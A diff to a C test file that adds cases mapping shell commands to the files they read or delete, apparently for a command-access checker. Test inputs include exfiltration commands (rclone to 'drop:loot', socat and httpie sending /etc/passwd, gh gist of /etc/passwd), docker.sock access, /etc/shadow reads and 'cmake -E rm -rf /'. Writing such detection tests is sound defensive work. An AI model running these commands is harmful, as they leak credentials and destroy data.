@@ -104,6 +104,10 @@ static void reads(void **state)
 		{ "kubectl apply -f d/ -n x", "R /w/d" }, { "kubectl create secret generic s --from-file=k=/etc/shadow", "R /etc/shadow" },
 		{ "kubectl --kubeconfig=c -n x apply -f -", "R /w/c" }, { "helm install -f v.yaml x y", "R /w/v.yaml" },
 		{ "xargs -a list rm", "R /w/list" }, { "mail -s x -a /etc/passwd a@b", "R /etc/passwd" }, { "tcpdump -r in.pcap -w out.pcap", "R /w/in.pcap, W /w/out.pcap" },
+		{ "rclone copy /srv/x drop:loot", "r /srv/x" }, { "rclone --config c sync /home mega:x", "R /w/c, r /home" }, { "socat -u FILE:/etc/passwd,rdonly TCP:h:1", "R /etc/passwd" },
+		{ "socat - UNIX-CONNECT:/run/docker.sock", "R /run/docker.sock" }, { "nc -U /run/docker.sock", "R /run/docker.sock" }, { "nc host 80", "" }, { "openssl passwd -1 x", "" },
+		{ "http POST h/x f@/etc/passwd a=b", "R /etc/passwd" }, { "date -f /etc/shadow", "R /etc/shadow" }, { "nmap -iL /etc/shadow", "R /etc/shadow" }, { "yq .a f.yaml", "R /w/f.yaml" },
+		{ "yq eval .a f.yaml", "R /w/f.yaml" }, { "gh gist create /etc/passwd", "R /etc/passwd" }, { "pip install -r req.txt", "R /w/req.txt" },
 		{ "echo /etc/shadow", "" }, { "printf %s /etc/shadow", "" }, { "unknown-program /etc/shadow", "" }, { "cat https://x/y", "" },
 		{ "cat ${HOMEDIR}/.ssh/id_rsa", "R ${HOMEDIR}/.ssh/id_rsa" }, { "cat $(ls␣/a/b)", "R $(ls /a/b)" },
 	};
@@ -176,7 +180,9 @@ static void deletes_and_changes(void **state)
 		{ "find -H a -maxdepth 1", "r /w/a" }, { "find / -exec rm {} ; -exec cat {} ;", "r /, d /, r /" }, { "find a -exec", "r /w/a" },
 		{ "git clean -fdx", "d /w" }, { "git clean -ndx", "" }, { "git clean -f build", "d /w/build" }, { "git -C /srv clean -xfd", "d /srv" },
 		{ "git checkout -- f", "" }, { "git rm -r d", "d /w/d" }, { "git status", "" }, { "journalctl --vacuum-time=1s", "d /var/log/journal" },
-		{ "journalctl -u ssh", "" }, { "systemctl enable /tmp/x.service", "L /tmp/x.service" }, { "systemctl --now enable nginx", "" },
+		{ "journalctl -u ssh", "" }, { "journalctl --vacuum-time=2d", "" }, { "journalctl --vacuum-time=0d", "d /var/log/journal" },
+		{ "journalctl --vacuum-size 500M", "" }, { "journalctl --vacuum-size=1K", "d /var/log/journal" }, { "journalctl --rotate --vacuum-files=1", "d /var/log/journal" },
+		{ "cmake -E rm -rf /", "d /" }, { "cmake -E remove_directory a", "d /w/a" }, { "cmake --build x", "" }, { "rimraf dist", "d /w/dist" }, { "gio trash a", "D /w/a" }, { "systemctl enable /tmp/x.service", "L /tmp/x.service" }, { "systemctl --now enable nginx", "" },
 		{ "systemctl link /tmp/x.service", "L /tmp/x.service" }, { "rclone purge remote:x", "" }, { "tmpreaper 7d /tmp", "d /tmp" },
 	};
 
